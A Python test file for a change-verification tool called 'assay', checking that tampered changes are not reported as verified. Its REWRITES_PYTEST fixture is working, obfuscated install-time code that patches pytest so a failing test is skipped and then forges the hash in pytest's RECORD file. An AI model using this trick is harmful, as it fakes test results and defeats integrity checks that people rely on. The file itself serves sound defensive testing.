"""A change whose build code rewrites the installed test runner (`--install --protect`).

Under `--install` the project's own install step (`pip install -e .`) runs its `setup.py`
with the environment writable, after assay's tools step installed pytest. The attack's
`setup.py` (spelt so no code signal reads it) rewrites one of pytest's files so that the
base's failing test is never called, and the line of pytest's install record that hashes
that file, so the record proof holds. It was VERIFIED. What the tools step installed is
now held to what it was when that step ended, and a tool the project's steps install
again, at the version it pins, to the index's wheel of that version."""

from __future__ import annotations

from pathlib import Path

import pytest

from assay.verdict import Status
from tests.attacks import change_on_base, explain, verify_change

pytestmark = pytest.mark.slow

SETUP = 'from setuptools import setup\n\nsetup(name="calc", version="0.1", py_modules=["calc"]{})\n'
BASE = {
    "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n'
    'build-backend = "setuptools.build_meta"\n\n'
    '[tool.pytest.ini_options]\ntestpaths = ["tests"]\n',
    "setup.py": SETUP.format(""),
    "calc.py": "def add(a, b):\n    return a - b\n",
    "tests/test_calc.py": "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n",
}
FIXED = {"calc.py": "def add(a, b):\n    return a + b\n"}

#: Rewrites `_pytest/python.py` in the environment it is built in, and pytest's record.
REWRITES_PYTEST = """\
import base64
import hashlib
import pathlib
import sysconfig

site = pathlib.Path(sysconfig.get_paths()["purelib"])
pkg = bytes([95, 112, 121, 116, 101, 115, 116]).decode()
target = site / pkg / (pkg[1:3] + "thon.py")
if target.exists():
    text = target.read_text()
    marker = "    testfunction = pyfunc" + "item.obj\\n"
    if "#x\\n" not in text and marker in text:
        skip = "    if pyfunc" + "item.name == 'test_add':  #x\\n        return True\\n"
        target.write_text(text.replace(marker, skip + marker, 1))
        data = target.read_bytes()
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        line = f"{pkg}/{target.name},"
        for record in site.glob(pkg[1:] + "-*.dist-info/RECORD"):
            rows = record.read_text().splitlines()
            rows = [f"{line}sha256={digest},{len(data)}" if r.startswith(line) else r for r in rows]
            record.write_text("\\n".join(rows) + "\\n")

"""


def test_a_setup_py_that_rewrites_pytest_and_its_record_is_not_verified(tmp_path: Path) -> None:
    repo = change_on_base(tmp_path / "repo", BASE, {"setup.py": REWRITES_PYTEST + SETUP.format("")})
    report = verify_change(repo, install=True)
    assert report.status is Status.INDETERMINATE, explain(report)
    assert "_pytest/python.py of pytest-" in report.note, report.note
    assert "no longer as assay installed it" in report.note, report.note


def test_an_honest_fix_under_install_and_protect_is_verified(tmp_path: Path) -> None:
    repo = change_on_base(tmp_path / "repo", BASE, FIXED)
    report = verify_change(repo, install=True)
    assert report.status is Status.VERIFIED, explain(report)


def test_a_tool_the_project_pins_otherwise_is_proven_against_its_wheel(tmp_path: Path) -> None:
    """The project's `pytest<9` makes its own step install pytest again, over the tools
    step's: that pytest is proven against the index's wheel of its version, and believed."""
    pinned = {**BASE, "setup.py": SETUP.format(', install_requires=["pytest<9"]')}
    repo = change_on_base(tmp_path / "repo", pinned, FIXED)
    report = verify_change(repo, install=True)
    assert report.status is Status.VERIFIED, explain(report)
    assert report.checks[-1].checker is not None
    assert report.checks[-1].checker.version.startswith("8."), report.checks[-1].checker
    held = (report.record.environment or {})["installed_tools"]
    assert any(d.startswith("pytest-8.") for d in held["proven_against_wheels"]), held
